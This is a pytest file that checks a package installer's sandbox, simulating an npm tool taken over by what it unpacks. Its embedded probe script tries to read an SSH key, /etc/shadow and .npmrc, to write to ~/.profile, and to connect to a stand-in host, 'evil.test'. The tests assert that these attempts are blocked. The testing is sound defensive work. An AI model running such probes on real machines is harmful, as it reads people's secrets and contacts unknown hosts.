"""What a tool that was taken over by what it unpacks could do: a program of the test in the place of npm."""

from __future__ import annotations

import json
import os
import socket
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from vsm_mcp.config import load
from vsm_mcp.errors import RegistryUnavailable
from vsm_mcp.install.enclosure import Work
from vsm_mcp.install.installer import Bench
from vsm_mcp.install.tools import run_tool
from vsm_mcp.model.installing import Install
from vsm_mcp.registries.addresses import Addresses
from vsm_mcp.registries.client import Registries
from vsm_mcp.sandbox import tool
from vsm_mcp.sandbox.child import Sandbox
from vsm_mcp.sandbox.confinement import Completed
from vsm_mcp.sandbox.probe import probe
from vsm_mcp.sandbox.tier import Tier

PYTHON = f"{sys.base_prefix}/bin/python3"
ATTEMPTS = """
import errno, json, os, socket, sys
def attempt(call, *args):
    try:
        call(*args)
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)
    return "ok"
def write(path):
    with open(path, "a") as file:
        file.write("x")
folder, home, port = sys.argv[1:]
found = {
    "folder": attempt(write, folder + "/made"),
    "npm's cache": attempt(write, home + "/.npm/made"),
    "uv's cache": attempt(write, home + "/.cache/uv/made"),
    "settings": attempt(lambda: open(home + "/.npmrc").read()),
    "change settings": attempt(write, home + "/.npmrc"),
    "another installation": attempt(write, folder + "/../other/made"),
    "key": attempt(open, home + "/.ssh/id"),
    "profile": attempt(write, home + "/.profile"),
    "password": attempt(open, "/etc/shadow"),
    "registry": attempt(socket.create_connection, ("127.0.0.1", int(port)), 5),
}
print(json.dumps(found))
"""
ELSEWHERE = "import socket; socket.create_connection(('evil.test', 443), 5)"


@pytest.fixture
async def bench(tmp_path: Path) -> AsyncIterator[Bench]:
    isolation = await probe()
    if isolation.tier is Tier.NONE:
        pytest.skip(f"no sandbox here: {isolation.reasons}")
    home = tmp_path / "person"
    for name in (".npmrc", ".ssh/id", ".profile"):
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("secret")
        (home / name).chmod(0o600)
    with socket.create_server(("127.0.0.1", 0)) as registry:
        address = f"http://127.0.0.1:{registry.getsockname()[1]}/"
        addresses = Addresses(npm=address, pypi_index="", environ={"HOME": str(home), "PATH": "/usr/bin:/bin"})
        async with Registries(addresses) as registries, Sandbox(isolation) as sandbox:
            config = load(tmp_path / "home", {**os.environ})
            yield Bench(config=config, registries=registries, run_tool=tool.run_tool, run_sandboxed=sandbox.run)


async def attempt(bench: Bench, tmp_path: Path, code: str, **extra: str) -> Completed:
    folder = tmp_path / "home/installations/server/1"
    folder.mkdir(parents=True)
    (folder.parent / "other").mkdir()
    port = bench.registries.addresses.npm.rstrip("/").rpartition(":")[2]
    argv = (PYTHON, "-I", "-S", "-c", code, str(folder), str(tmp_path / "person"), port)
    work = Work(tool="npm", folder=folder, reads=(sys.base_prefix,))
    return await run_tool(bench, argv, str(folder), 30, extra, work)


def said(done: Completed) -> dict[str, Any]:
    assert done.ok, done
    found: dict[str, Any] = json.loads(done.stdout)
    return found


async def test_it_changes_its_folder_and_its_caches_and_reaches_the_registry(bench: Bench, tmp_path: Path) -> None:
    done = await attempt(bench, tmp_path, ATTEMPTS)
    assert (done.confined, done.unconfined) == (True, "")
    found = said(done)
    assert found.pop("profile") in {"EROFS", "EACCES", "ok"}  # where the person's home is in /tmp, a private one
    assert (tmp_path / "person/.profile").read_text() == "secret"
    assert found == {
        "folder": "ok", "npm's cache": "ok", "uv's cache": "ok", "settings": "ok", "registry": "ok",
        "change settings": "EROFS", "another installation": "ENOENT", "key": "ENOENT",
        "password": "ENOENT",
    }  # fmt: skip
    made = tmp_path / "home/installations/server/1/made"
    assert made.stat().st_uid == os.geteuid()


async def test_a_host_where_no_registry_is_is_refused_and_named(bench: Bench, tmp_path: Path) -> None:
    with pytest.raises(RegistryUnavailable, match=r"npm wanted to reach evil\.test") as caught:
        await attempt(bench, tmp_path, ELSEWHERE)
    assert "[install] hosts" in caught.value.hint


async def test_a_person_may_have_it_run_outside(bench: Bench, tmp_path: Path) -> None:
    config = msgspec.structs.replace(bench.config, install=Install(confined=False))
    done = await attempt(msgspec.structs.replace(bench, config=config), tmp_path, ATTEMPTS)
    assert (done.confined, done.unconfined) == (False, "[install] confined is off")
    assert said(done)["profile"] == "ok"


async def test_where_no_cache_can_be_made_it_runs_outside(bench: Bench, tmp_path: Path) -> None:
    done = await attempt(bench, tmp_path, "pass", UV_CACHE_DIR=str(tmp_path / "person/.profile"))
    assert done.ok
    assert not done.confined
    assert "a cache cannot be made" in done.unconfined


async def test_without_a_sandbox_it_runs_outside_and_says_so(bench: Bench, tmp_path: Path) -> None:
    done = await attempt(msgspec.structs.replace(bench, run_sandboxed=None), tmp_path, ATTEMPTS)
    assert (done.confined, done.unconfined) == (False, "this machine gives no sandbox")
    assert said(done)["folder"] == "ok"
